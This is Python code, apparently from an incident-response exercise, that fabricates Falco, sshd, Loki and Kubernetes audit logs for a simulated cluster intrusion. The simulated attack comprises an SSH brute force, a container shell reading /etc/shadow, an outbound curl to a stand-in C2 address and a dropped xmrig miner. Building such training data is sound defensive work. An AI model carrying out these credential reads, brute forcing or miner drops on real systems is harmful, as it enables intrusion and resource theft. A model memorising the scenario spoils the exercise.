    # ---- THE ATTACK (container C on node-07) ---------------------------------
    w = API_WORKLOAD
    runc_pc = "runc init"
    ev.append(falco_event(T["falco_shell"], "Terminal shell in container", w, proc(
        "bash", "/bin/bash", "bash", PIDS["bash"], PIDS["runc_init"], "runc", runc_pc, tty=34816,
        ancestors=["containerd-shim", "systemd"])))
    ev.append(falco_event(T["falco_shadow"], "Read sensitive file untrusted", w, proc(
        "cat", "/bin/cat", "cat /etc/shadow", PIDS["cat"], PIDS["bash"], "bash", "bash", evt="openat", tty=34816,
        ancestors=["runc", "containerd-shim", "systemd"], **{"fd.name": "/etc/shadow"})))
    ev.append(falco_event(T["falco_curl"], "Unexpected outbound connection destination", w, proc(
        "curl", "/usr/bin/curl", CURL_CMDLINE, PIDS["curl"], PIDS["bash"], "bash", "bash", evt="connect", tty=34816,
        ancestors=["runc", "containerd-shim", "systemd"], **net(POD_IP, 41872, C2_IP, 80))))
    ctime = T["falco_curl"] + 912_443_018
    ev.append(falco_event(T["falco_xmrig_exec"], "Drop and execute new binary in container", w, proc(
        "xmrig", "/tmp/xmrig", XMRIG_CMDLINE, PIDS["xmrig"], PIDS["bash"], "bash", "bash", tty=34816,
        ancestors=["runc", "containerd-shim", "systemd"], flags="EXE_WRITABLE|EXE_UPPER_LAYER",
        **{"proc.exe": "/tmp/xmrig", "proc.sname": "bash", "proc.exe_ino.ctime": ctime,
           "proc.exe_ino.mtime": ctime, "proc.exe_ino.ctime_duration_proc_start": T["falco_xmrig_exec"] - ctime,
           "proc.cwd": "/tmp/", "container.start_ts": T["container_start"]})))
    for key, cport in (("falco_c2", 38214), ("falco_c2_reconnect1", 38990), ("falco_c2_reconnect2", 40127)):
        p = dict(ancestors=["runc", "containerd-shim", "systemd"], evt="connect", tty=34816)
        p.update(net(POD_IP, cport, C2_IP, 3333))
        ev.append(falco_event(T[key], "Outbound Connection to C2 Servers", w, proc(
            "xmrig", "/tmp/xmrig", XMRIG_CMDLINE, PIDS["xmrig"], PIDS["bash"], "bash", "bash", **p)))
        p = dict(ancestors=["runc", "containerd-shim", "systemd"], evt="connect", tty=34816)
        p.update(net(POD_IP, cport, C2_IP, 3333))
        ev.append(falco_event(T[key], "Unexpected outbound connection destination", w, proc(
            "xmrig", "/tmp/xmrig", XMRIG_CMDLINE, PIDS["xmrig"], PIDS["bash"], "bash", "bash", **p)))

    for e in ev:
        assert WIN_START <= e["output_fields"]["evt.time"] < WIN_END, e
    # stable sort: by time, then rule name (two rules can fire on the same syscall)
    ev.sort(key=lambda e: (e["output_fields"]["evt.time"], e["rule"]))
    return [dumps(e) for e in ev]


# --------------------------------------------------------------------------
# Containers that start inside the window (shared by ES and Falco)
# --------------------------------------------------------------------------

def _mk_containers():
    r = rng("containers")
    d = {}
    pipelines = {}
    for key, pipe, t0 in (("runner-web", "web", at(12, 33, 2.6)), ("runner-api", "api", at(12, 39, 11.2)),
                          ("runner-checkout", "checkout", at(13, 19, 48.9)), ("runner-reports", "reports", at(13, 44, 30.3))):
        suffix = hexstr(r, 8)
        wl = Workload(key, "node-04", "ci", f"runner-{suffix}-project-{r.randint(10, 99)}-concurrent-0", "build",
                      "ghcr.io/acme/ci-build", "rust-1.83", "sha256:" + hexstr(r, 64), hexstr(r, 64))
        d[key] = (wl, t0)
        pipelines[key] = (pipe, t0)
    d["webstg"] = (Workload("webstg", "node-03", "staging", "web-staging-84c9d7f5b-tq8vx", "web", "ghcr.io/acme/web",
                            "e41d9c0", "sha256:" + hexstr(r, 64), hexstr(r, 64)), at(12, 35, 41.713))
    d["checkoutstg"] = (Workload("checkoutstg", "node-06", "staging", "checkout-staging-7bd5c8f6d-9hx2m", "checkout",
                                 "ghcr.io/acme/checkout", "2a6f0b3", "sha256:" + hexstr(r, 64), hexstr(r, 64)),
                        at(13, 22, 37.054))
    d["reports"] = (Workload("reports", "node-05", "data", "reports-6f9d4b7c8-lw5qz", "reports", "ghcr.io/acme/reports",
                             "71c3e9a", "sha256:" + hexstr(r, 64), hexstr(r, 64)), at(13, 47, 12.377))
    d["cilium-06"] = (Workload("cilium-06", "node-06", "kube-system", "cilium-t8m2x", "cilium-agent",
                               "quay.io/cilium/cilium", "v1.16.3", "sha256:" + hexstr(r, 64), hexstr(r, 64)),
                      at(12, 55, 18.420))
    cil_digest = d["cilium-06"][0].digest
    d["cilium-02"] = (Workload("cilium-02", "node-02", "kube-system", "cilium-4vq9n", "cilium-agent",
                               "quay.io/cilium/cilium", "v1.16.3", cil_digest, hexstr(r, 64)), at(13, 33, 2.915))
    d["node-debugger"] = (Workload("node-debugger", "node-04", "default", "node-debugger-node-04-7xk2p", "debugger",
                                   "docker.io/library/busybox", "1.36", "sha256:" + hexstr(r, 64), hexstr(r, 64)),
                          at(13, 30, 6.288))
    d["api"] = (API_WORKLOAD, T["container_start"])
    d["api2"] = (Workload("api2", POD2_NODE, "prod", POD2, "api", API_REPO, COMMIT_SHORT, DIGEST, POD2_CONTAINER_ID),
                 T["container2_start"])
    return d, pipelines


CONTAINERS_IN_WINDOW, RUNNER_ACTIVITY = _mk_containers()


# --------------------------------------------------------------------------
# Loki helpers
# --------------------------------------------------------------------------

def loki_detect_level_line(line: str) -> str:
    """Port of Loki 3.x distributor detectLevelFromLogLine (non JSON lines)."""
    c = line.__contains__
    if c("info:") or c("INFO:") or c("[info]") or c("[INFO]") or c("info") or c("INFO"):
        return "info"
    if c("err:") or c("ERR:") or c("[err]") or c("[ERR]") or c("[error]") or c("[ERROR]"):
        return "error"
    if c("warn:") or c("WARN:") or c("[warn]") or c("[WARN]") or c("[warning]") or c("[WARNING]") or c("warning") or c("WARNING"):
        return "warn"
    if c("critical:") or c("CRITICAL:") or c("[critical]") or c("[CRITICAL]"):
        return "critical"
    if c("debug:") or c("DEBUG:") or c("[debug]") or c("[DEBUG]") or c("debug") or c("DEBUG"):
        return "debug"
    return "unknown"


def loki_detect_level_json(line: str) -> str:
    lvl = json.loads(line).get("level", "")
    return {"info": "info", "warn": "warn", "warning": "warn", "error": "error", "debug": "debug"}.get(lvl.lower(), "unknown")


def loki_response(streams: dict, r: random.Random) -> dict:
    """streams: {labels-tuple: [(ns, line), ...]} -> query_range response."""
    result = []
    total_lines = 0
    total_bytes = 0
    for labels in sorted(streams):
        vals = sorted(streams[labels])
        total_lines += len(vals)
        total_bytes += sum(len(l) for _, l in vals)
        result.append({"stream": dict(sorted(labels)), "values": [[str(ns), line] for ns, line in vals]})
    exec_time = round(r.uniform(0.04, 0.09), 6)
    queue_time = round(r.uniform(0.0005, 0.002), 6)
    empty_cache = {"entriesFound": 0, "entriesRequested": 0, "entriesStored": 0, "bytesReceived": 0, "bytesSent": 0,
                   "requests": 0, "downloadTime": 0, "queryLengthServed": 0}
    chunk = lambda head: {  # noqa: E731
        "headChunkBytes": total_bytes if head else 0, "headChunkLines": total_lines if head else 0,
        "decompressedBytes": 0 if head else total_bytes, "decompressedLines": 0 if head else total_lines,
        "compressedBytes": 0 if head else total_bytes // 6, "totalDuplicates": 0,
        "postFilterLines": total_lines if head else 0, "headChunkStructuredMetadataBytes": 0,
        "decompressedStructuredMetadataBytes": 0}
    stats = {
        "summary": {
            "bytesProcessedPerSecond": int(total_bytes / exec_time), "linesProcessedPerSecond": int(total_lines / exec_time),
            "totalBytesProcessed": total_bytes, "totalLinesProcessed": total_lines, "execTime": exec_time,
            "queueTime": queue_time, "subqueries": 0, "totalEntriesReturned": total_lines, "splits": 4, "shards": 4,
            "totalPostFilterLines": total_lines, "totalStructuredMetadataBytesProcessed": 0},
        "querier": {"store": {"totalChunksRef": 0, "totalChunksDownloaded": 0, "chunksDownloadTime": 0,
                              "queryReferencedStructuredMetadata": False, "chunk": chunk(False) | {"compressedBytes": 0, "decompressedBytes": 0, "decompressedLines": 0},
                              "chunkRefsFetchTime": 0, "congestionControlLatency": 0, "pipelineWrapperFilteredLines": 0}},
        "ingester": {"totalReached": 2, "totalChunksMatched": max(1, len(result) * 2), "totalBatches": 4,
                     "totalLinesSent": total_lines,
                     "store": {"totalChunksRef": 0, "totalChunksDownloaded": 0, "chunksDownloadTime": 0,
                               "queryReferencedStructuredMetadata": False, "chunk": chunk(True),
                               "chunkRefsFetchTime": r.randint(400000, 2000000), "congestionControlLatency": 0,
                               "pipelineWrapperFilteredLines": 0}},
        "cache": {k: dict(empty_cache) for k in ("chunk", "index", "result", "statsResult", "volumeResult",
                                                  "seriesResult", "labelResult", "instantMetricResult")},
        "index": {"totalChunks": 0, "postFilterChunks": 0, "shardsDuration": 0, "usedBloomFilters": False},
    }
    return {"status": "success", "data": {"resultType": "streams", "result": result, "stats": stats}}


# --------------------------------------------------------------------------
# Loki: sshd on the bastions
# --------------------------------------------------------------------------

def fingerprint(user: str) -> str:
    return base64.b64encode(hashlib.sha256(f"demo-key:{user}".encode()).digest()).decode().rstrip("=")


def sshd_streams():
    r = rng("sshd")
    lines = {"bastion-1": [], "bastion-2": []}
    used_pids = set()

    def pid():
        while True:
            p = r.randint(2000, 65000)
            if p not in used_pids:
                used_pids.add(p)
                return p

    def emit(host, t, p, msg):
        t = t // 1000 * 1000  # promtail/syslog receive time, microsecond precision
        lines[host].append((t, f"{syslog_ts(t)} {host} sshd[{p}]: {msg}"))

    # --- brute force from the attacker against bastion-1
    valid = {"root", "ubuntu", "mallory", "alice", "bob", "ci-runner"}
    names = ["root"] * 14 + ["admin"] * 6 + ["ubuntu"] * 5 + ["mallory"] * 2 + ["test"] * 3 + ["oracle"] * 2 + \
            ["postgres"] * 2 + ["git"] * 2 + ["user"] * 2 + ["pi", "support", "guest", "ftpuser", "deploy", "jenkins", "dev"]
    host = "bastion-1"
    n_failed = 0
    stop_at = T["ssh_accept"] - 2 * NS
    for wk in range(16):
        t = T["brute_start"] + round(wk * 0.27 * NS) + r.randint(0, 200_000_000)
        while t < stop_at:
            user = r.choice(names)
            port = r.randint(32768, 64999)
            p = pid()
            inval = user not in valid
            who = f"invalid user {user}" if inval else user
            closed_who = f"invalid user {user}" if inval else f"authenticating user {user}"
            if inval:
                emit(host, t + r.randint(20_000_000, 90_000_000), p, f"Invalid user {user} from {ATTACKER_IP} port {port}")
            tries = r.choice([1, 2, 3, 3, 4, 4, 5, 6, 6, 6])
            done = 0
            for _ in range(tries):
                t += jitter_ns(r, 1.9, 2.7)
                if t >= T["ssh_accept"]:
                    break
                emit(host, t, p, f"Failed password for {who} from {ATTACKER_IP} port {port} ssh2")
                n_failed += 1
                done += 1
            t += r.randint(5_000_000, 120_000_000)
            if done == 6:
                emit(host, t, p, f"error: maximum authentication attempts exceeded for {who} from {ATTACKER_IP} port {port} ssh2 [preauth]")
                emit(host, t + 1_000_000, p, f"Disconnecting {closed_who} {ATTACKER_IP} port {port}: Too many authentication failures [preauth]")
            elif r.random() < 0.5:
                emit(host, t, p, f"Connection closed by {closed_who} {ATTACKER_IP} port {port} [preauth]")
            else:
                emit(host, t, p, f"Received disconnect from {ATTACKER_IP} port {port}:11: Bye Bye [preauth]")
                emit(host, t + 300_000, p, f"Disconnected from {closed_who} {ATTACKER_IP} port {port} [preauth]")
            t += r.randint(50_000_000, 400_000_000)
    # the hit: mallory's password
    p = 61827
    used_pids.add(p)
    emit(host, T["ssh_accept"], p, f"Accepted password for mallory from {ATTACKER_IP} port 51514 ssh2")
    emit(host, T["ssh_accept"] + 4_118_000, p, "pam_unix(sshd:session): session opened for user mallory(uid=1003) by (uid=0)")
    emit(host, T["ssh_close"], p, f"Received disconnect from {ATTACKER_IP} port 51514:11: disconnected by user")
    emit(host, T["ssh_close"] + 402_000, p, f"Disconnected from user mallory {ATTACKER_IP} port 51514")
    emit(host, T["ssh_close"] + 1_903_000, p, "pam_unix(sshd:session): session closed for user mallory")

    # --- normal operator sessions
    uids = {"alice": 1001, "bob": 1002, "ci-runner": 1100}
    src = {"alice": "10.0.8.25", "bob": "10.0.8.17", "ci-runner": "10.0.8.28"}
    sessions = [("bastion-1", "bob", at(12, 34, 2.4), at(12, 49, 51.0)),
                ("bastion-2", "alice", at(12, 48, 11.2), at(13, 2, 37.5)),
                ("bastion-1", "bob", at(13, 14, 20.8), at(13, 36, 5.1)),
                ("bastion-2", "alice", at(13, 23, 4.9), at(13, 50, 44.3)),
                ("bastion-1", "bob", at(13, 52, 30.0), at(13, 58, 12.7))]
    t = WIN_START + jitter_ns(r, 60, 240)
    while t < WIN_END - 60 * NS:
        end = t + jitter_ns(r, 4, 40)
        sessions.append(("bastion-2", "ci-runner", t, end))
        t += jitter_ns(r, 600, 1000)
    for host, user, t0, t1 in sessions:
        p = pid()
        port = r.randint(40000, 64999)
        ip = src[user]
        emit(host, t0, p, f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{fingerprint(user)}")
        emit(host, t0 + r.randint(2_000_000, 9_000_000), p,
             f"pam_unix(sshd:session): session opened for user {user}(uid={uids[user]}) by (uid=0)")
        emit(host, t1, p, f"Received disconnect from {ip} port {port}:11: disconnected by user")
        emit(host, t1 + r.randint(100_000, 900_000), p, f"Disconnected from user {user} {ip} port {port}")
        emit(host, t1 + r.randint(1_000_000, 3_000_000), p, f"pam_unix(sshd:session): session closed for user {user}")

    # --- load balancer TCP health checks on both bastions (every ~2 min)
    for host, lb in (("bastion-1", "10.0.8.5"), ("bastion-2", "10.0.8.6")):
        t = WIN_START + jitter_ns(r, 0, 120)
        while t < WIN_END:
            emit(host, t, pid(), f"Connection closed by {lb} port {r.randint(1024, 65000)} [preauth]")
            t += jitter_ns(r, 115, 125)

    streams = {}
    for host, vals in lines.items():
        for ns, line in vals:
            assert WIN_START <= ns < WIN_END, line
            labels = (("detected_level", loki_detect_level_line(line)), ("env", "prod"), ("host", host),
                      ("job", "sshd"), ("service_name", "sshd"))
            streams.setdefault(labels, []).append((ns, line))
    return loki_response(streams, r), n_failed


# --------------------------------------------------------------------------
# Loki: api application logs
# --------------------------------------------------------------------------

ROUTES = [("GET", "/v1/orders", 30), ("GET", "/v1/orders/{id}", 25), ("POST", "/v1/orders", 10), ("GET", "/v1/cart", 15),
          ("POST", "/v1/cart/items", 8), ("GET", "/v1/products", 20), ("GET", "/healthz", 6)]


def api_streams():
    r = rng("api")
    streams = {}
    pods = [  # pod, node, commit, start, end, miner_start
        (OLD_PODS[0][0], OLD_PODS[0][1], PREV_COMMIT, None, T["old1_stop"]),
        (OLD_PODS[1][0], OLD_PODS[1][1], PREV_COMMIT, None, T["old2_stop"]),
        (POD, POD_NODE, COMMIT, T["container_start"], None),
        (POD2, POD2_NODE, COMMIT, T["container2_start"], None),
    ]
    route_w = [w for _, _, w in ROUTES]
    version = {COMMIT: "2.14.0", PREV_COMMIT: "2.13.2"}
    slow_from = T["miner_cpu"] + 6 * NS

    for pod, node, commit, start, stop in pods:
        labels_base = (("app", "api"), ("commit", commit), ("container", "api"), ("job", "prod/api"),
                       ("namespace", "prod"), ("pod", pod), ("service_name", "api"))
        out = []

        def log(t, level, msg, **kw):
            d = {"ts": iso_ms(t), "level": level, "msg": msg}
            d.update(kw)
            out.append((t + r.randint(50_000, 900_000), json.dumps(d, separators=(",", ":"))))

        if start is not None:
            t = start + r.randint(150_000_000, 400_000_000)
            log(t, "info", "starting api", version=version[commit], commit=commit, go_version="go1.23.3", listen=":8080")
            t += r.randint(30_000_000, 90_000_000)
            log(t, "info", "connected to postgres", host="postgres-0.postgres.data.svc.cluster.local:5432", pool_max=20)
            t += r.randint(5_000_000, 20_000_000)
            log(t, "info", "connected to redis", addr="redis-0.redis.prod.svc.cluster.local:6379")
            t += r.randint(1_000_000, 8_000_000)
            log(t, "info", "http server listening", addr=":8080", commit=commit)
        else:
            t = WIN_START + r.randint(0, 20 * NS)
        end = stop if stop is not None else WIN_END
        if stop is not None:
            end = stop - 14 * NS  # SIGTERM ~14s before container stop (graceful drain)
        while True:
            compromised = pod == POD and t >= slow_from
            t += jitter_ns(r, 4, 15) if compromised else jitter_ns(r, 9, 24)
            if t >= end:
                break
            method, path, _ = r.choices(ROUTES, weights=route_w)[0]
            trace = hexstr(r, 32)
            user = f"u-{r.randint(1000, 1099)}"
            if compromised:
                dur = int(r.lognormvariate(7.6, 0.7))  # ~2s median, CPU starved
                if dur >= 5000 or r.random() < 0.12:
                    if r.random() < 0.35:
                        log(t, "error", "db query failed", error="pq: canceling statement due to user request: context deadline exceeded",
                            query="orders.list", trace_id=trace, duration_ms=5000)
                    else:
                        log(t, "error", f"{method} {path} 504", method=method, path=path, status=504,
                            error="handler timeout: context deadline exceeded", duration_ms=5000, trace_id=trace, user=user)
                elif dur >= 1000:
                    st = 201 if method == "POST" else 200
                    log(t, "warn", f"slow request: {method} {path} {st}", method=method, path=path, status=st,
                        duration_ms=dur, trace_id=trace, user=user)
                else:
                    st = 201 if method == "POST" else 200
                    log(t, "info", f"{method} {path} {st}", method=method, path=path, status=st, duration_ms=dur,
                        trace_id=trace, user=user)
                if r.random() < 0.04:
                    log(t + 2_000_000, "warn", "readiness probe slow", path="/readyz", duration_ms=r.randint(1800, 4200))
                continue
            status = 201 if method == "POST" else 200
            if r.random() < 0.015:
                status = 404
            if path == "/healthz":
                dur = r.randint(0, 2)
            else:
                dur = max(1, int(r.lognormvariate(2.6, 0.5)))
            if r.random() < 0.01:
                log(t, "warn", "payment gateway retry", attempt=2, upstream="payments.prod.svc.cluster.local:8443",
                    trace_id=trace, user=user)
                continue
            log(t, "info", f"{method} {path} {status}", method=method, path=path, status=status, duration_ms=dur,
                trace_id=trace, user=user)
        if stop is not None:
            t = stop - 14 * NS + r.randint(0, 300_000_000)
            log(t, "info", "received SIGTERM, draining connections", grace_period_s=30)
            log(t + r.randint(8 * NS, 12 * NS), "info", "shutdown complete", inflight=0)
        for ns, line in out:
            assert WIN_START <= ns < WIN_END
            labels = tuple(sorted(labels_base + (("detected_level", loki_detect_level_json(line)),)))
            streams.setdefault(labels, []).append((ns, line))
    return loki_response(streams, r)


# --------------------------------------------------------------------------
# Elasticsearch _search (ECS)
# --------------------------------------------------------------------------

K8S_VER = "v1.31.2"
K8S_UA = f"(linux/amd64) kubernetes/5864a46"
KUBECTL_UA = f"kubectl/{K8S_VER} {K8S_UA}"
BACKING = {
    "kubernetes.audit_logs": ".ds-logs-kubernetes.audit_logs-default-2026.11.17-000004",
    "cicd.pipeline": ".ds-logs-cicd-default-2026.11.01-000002",
    "kubernetes.container": ".ds-logs-kubernetes.container-default-2026.11.19-000006",
}
NODE_IP = {f"node-0{i}": f"10.0.1.{10 + i}" for i in range(1, 8)}


def es_docs():
    """The Elasticsearch answer, and the API server's own audit log of requests by people.

    The audit policy sends system components' requests to Elasticsearch (Elastic Agent's
    kubernetes.audit_logs); requests by people (kubectl users) go to the log backend on the
    control plane, which the responder copied as `k8s-audit.jsonl`.
    """
    r = rng("es")
    docs = []  # (ns, dataset, source)
    native = []  # (ns, audit.k8s.io Event)

    def audit(t, user, groups, src_ip, ua, verb, resource, name=None, ns=None, subresource=None, api_group="",
              api_version="v1", code=200, uri=None, decision="allow", reason="", message=None, request_object=None):
        latency = r.randint(400, 9000) * 1000  # ns
        if uri is None:
            base = f"/apis/{api_group}/{api_version}" if api_group else f"/api/{api_version}"
            uri = base + (f"/namespaces/{ns}" if ns else "") + f"/{resource}" + (f"/{name}" if name else "") + \
                (f"/{subresource}" if subresource else "")
        obj = {"resource": resource}
        if ns:
            obj["namespace"] = ns
        if name:
            obj["name"] = name
        obj["apiGroup"] = api_group
        obj["apiVersion"] = api_version
        if subresource:
            obj["subresource"] = subresource
        res = resource + (f"/{subresource}" if subresource else "")
        if name:
            target = f" {ns}/{name}" if ns else f" {name}"
        else:
            target = f" in {ns}" if ns else " (all namespaces)" if resource not in ("nodes",) else ""
        if message is None:
            message = f"{user} {verb} {res}{target} -> {code}"
        outcome = "success" if code < 400 else "failure"
        if verb in ("get", "list", "watch"):
            etype = ["access"]
        elif verb == "create":
            etype = ["creation"]
        elif verb == "delete":
            etype = ["deletion"]
        else:
            etype = ["change"]
        if code >= 400:
            etype = etype + ["denied"]
        elif decision == "allow" and user.startswith(("alice", "bob", "mallory")):
            etype = etype + ["allowed"]
        if api_group == "rbac.authorization.k8s.io":
            cat = ["iam", "configuration"]
        elif subresource == "exec":
            cat = ["process"]
        else:
            cat = ["web"]
        ann = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}
        resp = {"metadata": {}, "code": code}
        if code == 403:
            resp.update({"status": "Failure", "reason": "Forbidden", "message": (
                f'{res} is forbidden: User "{user}" cannot {verb} resource "{resource}" in API group "{api_group}" at the cluster scope')})
        src = {
            "@timestamp": iso_ms(t),
            "data_stream": {"type": "logs", "dataset": "kubernetes.audit_logs", "namespace": "default"},
            "ecs": {"version": "8.11.0"},
            "event": {"kind": "event", "category": cat, "type": etype, "action": verb, "outcome": outcome,
                      "dataset": "kubernetes.audit_logs", "module": "kubernetes"},
            "message": message,
            "user": {"name": user},
            "source": {"ip": src_ip},
            "user_agent": {"original": ua},
            "orchestrator": {"type": "kubernetes", "cluster": {"name": CLUSTER},
                             "resource": {"type": resource}},
            "kubernetes": {"audit": {
                "kind": "Event", "apiVersion": "audit.k8s.io/v1",
                "level": "RequestResponse" if request_object else "Metadata", "auditID": uuid4(r),
                # exec/attach are logged when the stream is upgraded (101), i.e. at ResponseStarted
                "stage": "ResponseStarted" if code == 101 else "ResponseComplete", "requestURI": uri, "verb": verb,
                "user": {"username": user, "groups": groups}, "sourceIPs": [src_ip], "userAgent": ua,
                "objectRef": obj, "responseStatus": resp,
                "requestReceivedTimestamp": iso_us(t), "stageTimestamp": iso_us(t + latency),
                "annotations": ann}},
        }
        if request_object:
            src["kubernetes"]["audit"]["requestObject"] = request_object
        if not user.startswith("system:"):
            native.append((t, src["kubernetes"]["audit"]))
            return
        if ns:
            src["orchestrator"]["namespace"] = ns
        if name:
            src["orchestrator"]["resource"]["name"] = name
        docs.append((t, "kubernetes.audit_logs", src))

    SA_GROUPS = lambda ns: ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]  # noqa: E731
    rbac_sa = lambda role, sa: f'RBAC: allowed by ClusterRoleBinding "{role}" of ClusterRole "{role}" to ServiceAccount "{sa}"'  # noqa: E731

    # --- background: control plane leader election
    for user, lease, period in (("system:kube-controller-manager", "kube-controller-manager", 60),
                                ("system:kube-scheduler", "kube-scheduler", 90)):
        t = WIN_START + jitter_ns(r, 1, period)
        comp = user.split(":")[1]
        while t < WIN_END:
            audit(t, user, ["system:authenticated"], "10.0.1.10", f"{comp}/{K8S_VER} {K8S_UA}/leader-election",
                  "update", "leases", lease, "kube-system", api_group="coordination.k8s.io",
                  uri=f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{lease}?timeout=5s",
                  reason=f'RBAC: allowed by ClusterRoleBinding "{user}" of ClusterRole "{user}" to User "{user}"')
            t += jitter_ns(r, period - 3, period + 3)

    # --- coredns / kube-proxy / cilium watches (complete every few minutes)
    watchers = [
        ("system:serviceaccount:kube-system:coredns", "kube-system", "10.42.1.5", "coredns/v0.0.0 (linux/amd64) kubernetes/$Format",
         [("endpointslices", "discovery.k8s.io"), ("services", ""), ("namespaces", "")], "system:coredns"),
        ("system:serviceaccount:kube-system:cilium", "kube-system", "10.0.1.12", "cilium-agent/v1.16.3 (linux/amd64) kubernetes/$Format",
         [("ciliumendpoints", "cilium.io"), ("ciliumnetworkpolicies", "cilium.io")], "cilium"),
    ]
    for user, sans, ip, ua, resources, role in watchers:
        for res, grp in resources:
            t = WIN_START + jitter_ns(r, 5, 400)
            while t < WIN_END:
                tmo = r.randint(300, 570)
                path = (f"/apis/{grp}/v1/{res}" if grp else f"/api/v1/{res}")
                audit(t, user, SA_GROUPS(sans), ip, ua, "watch", res, api_group=grp,
                      uri=f"{path}?allowWatchBookmarks=true&resourceVersion={r.randint(48000000, 48999999)}&timeout={tmo // 60}m{tmo % 60}s&timeoutSeconds={tmo}&watch=true",
                      reason=rbac_sa(role, f"{user.split(':')[-1]}/{sans}"))
                t += tmo * NS + jitter_ns(r, 0.1, 2)

    # --- prometheus service discovery lists
    t = WIN_START + jitter_ns(r, 5, 60)
    while t < WIN_END:
        ns = r.choice(["prod", "staging", "monitoring", "data", "kube-system", "ingress-nginx"])
        res = r.choice(["pods", "endpoints", "services"])
        audit(t, "system:serviceaccount:monitoring:prometheus-k8s", SA_GROUPS("monitoring"), "10.42.2.14", "Prometheus/2.55.1",
              "list", res, ns=ns, uri=f"/api/v1/namespaces/{ns}/{res}?limit=500&resourceVersion=0",
              reason=rbac_sa("prometheus-k8s", "prometheus-k8s/monitoring"))
        t += jitter_ns(r, 70, 110)

    # --- external-dns sync loop (matches the Falco "Contact K8S API Server" noise)
    t = WIN_START + jitter_ns(r, 3, 40)
    while t < WIN_END:
        res = r.choice(["services", "ingresses"])
        grp = "networking.k8s.io" if res == "ingresses" else ""
        audit(t, "system:serviceaccount:kube-system:external-dns", SA_GROUPS("kube-system"), "10.42.1.9",
              "external-dns/v0.15.0", "list", res, api_group=grp,
              uri=(f"/apis/networking.k8s.io/v1/{res}" if grp else f"/api/v1/{res}") + "?limit=500&resourceVersion=0",
              reason=rbac_sa("external-dns-viewer", "external-dns/kube-system"))
        t += jitter_ns(r, 55, 65)

    # --- HPA controller reading the checkout scale subresource
    t = WIN_START + jitter_ns(r, 1, 90)
    while t < WIN_END:
        audit(t, "system:serviceaccount:kube-system:horizontal-pod-autoscaler", SA_GROUPS("kube-system"), "10.0.1.10",
              f"kube-controller-manager/{K8S_VER} {K8S_UA}/system:serviceaccount:kube-system:horizontal-pod-autoscaler",
              "get", "deployments", "checkout", "prod", subresource="scale", api_group="apps",
              reason='RBAC: allowed by ClusterRoleBinding "system:controller:horizontal-pod-autoscaler" of ClusterRole "system:controller:horizontal-pod-autoscaler" to ServiceAccount "horizontal-pod-autoscaler/kube-system"')
        t += jitter_ns(r, 85, 95)

    # --- kubelets
    for i in range(1, 8):
        node = f"node-0{i}"
        t = WIN_START + jitter_ns(r, 1, 600)
        while t < WIN_END:
            audit(t, f"system:node:{node}", ["system:nodes", "system:authenticated"], NODE_IP[node],
                  f"kubelet/{K8S_VER} {K8S_UA}", "patch", "nodes", node, subresource="status",
                  uri=f"/api/v1/nodes/{node}/status?timeout=10s", reason="")
            t += jitter_ns(r, 560, 640)

    # --- humans (legit)
    alice = ("alice", ["devs", "system:authenticated"], BASTION2_IP)
    bob = ("bob", ["sre", "system:authenticated"], BASTION1_IP)
    rb = lambda b, role, grp, ns=None: (f'RBAC: allowed by {"RoleBinding" if ns else "ClusterRoleBinding"} "{b}' +  # noqa: E731
                                        (f'/{ns}' if ns else "") + f'" of ClusterRole "{role}" to Group "{grp}"')
    web_stg = CONTAINERS_IN_WINDOW["webstg"][0].pod
    human = [
        (at(12, 36, 14.2), bob, "list", "pods", None, "prod", None, "", 200, rb("sre-admin", "admin", "sre")),
        (at(12, 44, 2.9), bob, "get", "deployments", "api", "prod", None, "apps", 200, rb("sre-admin", "admin", "sre")),
        (at(12, 44, 3.6), bob, "list", "replicasets", None, "prod", None, "apps", 200, rb("sre-admin", "admin", "sre")),
        (at(12, 44, 4.1), bob, "list", "pods", None, "prod", None, "", 200, rb("sre-admin", "admin", "sre")),
        (at(12, 47, 28.0), bob, "create", "pods", "grafana-5c8d7f6b9-wm4tn", "monitoring", "exec", "", 101, rb("sre-admin", "admin", "sre")),
        (at(12, 49, 5.5), alice, "list", "pods", None, "staging", None, "", 200, rb("devs-edit", "edit", "devs", "staging")),
        (at(12, 50, 41.1), alice, "get", "deployments", "web-staging", "staging", None, "apps", 200, rb("devs-edit", "edit", "devs", "staging")),
        (at(12, 51, 12.0), alice, "get", "pods", web_stg, "staging", "log", "", 200, rb("devs-edit", "edit", "devs", "staging")),
        (at(12, 52, 4.8), alice, "create", "pods", web_stg, "staging", "exec", "", 101, rb("devs-edit", "edit", "devs", "staging")),
        (at(13, 15, 2.3), bob, "list", "pods", None, "prod", None, "", 200, rb("sre-admin", "admin", "sre")),
        (at(13, 15, 30.7), bob, "list", "events", None, "prod", None, "", 200, rb("sre-admin", "admin", "sre")),
        (at(13, 17, 8.1), bob, "get", "pods", POD, "prod", "log", "", 200, rb("sre-admin", "admin", "sre")),
        (at(13, 18, 44.9), bob, "get", "pods", POD2, "prod", "log", "", 200, rb("sre-admin", "admin", "sre")),
        (at(13, 20, 11.4), bob, "list", "pods", None, "prod", None, "", 200, rb("sre-admin", "admin", "sre")),
        (at(13, 24, 19.6), alice, "list", "pods", None, "staging", None, "", 200, rb("devs-edit", "edit", "devs", "staging")),
        (at(13, 26, 37.2), alice, "create", "pods", web_stg, "staging", "exec", "", 101, rb("devs-edit", "edit", "devs", "staging")),
        (at(13, 29, 58.0), bob, "create", "pods", "node-debugger-node-04-7xk2p", "default", None, "", 201, rb("sre-admin", "admin", "sre")),
        (at(13, 30, 7.4), bob, "create", "pods", "node-debugger-node-04-7xk2p", "default", "attach", "", 101, rb("sre-admin", "admin", "sre")),
        (at(13, 38, 51.3), bob, "delete", "pods", "node-debugger-node-04-7xk2p", "default", None, "", 200, rb("sre-admin", "admin", "sre")),
        (at(13, 41, 5.0), alice, "list", "pods", None, "staging", None, "", 200, rb("devs-edit", "edit", "devs", "staging")),
        (at(13, 48, 22.7), alice, "list", "deployments", None, "staging", None, "apps", 200, rb("devs-edit", "edit", "devs", "staging")),
        (at(13, 55, 3.2), bob, "get", "nodes", None, None, None, "", 200, rb("sre-admin", "admin", "sre")),
        (at(13, 55, 40.9), bob, "list", "pods", None, "prod", None, "", 200, rb("sre-admin", "admin", "sre")),
    ]
    for t, (user, groups, ip), verb, res, name, ns, sub, grp, code, reason in human:
        uri = None
        if sub == "exec":
            cname = "grafana" if ns == "monitoring" else "web"
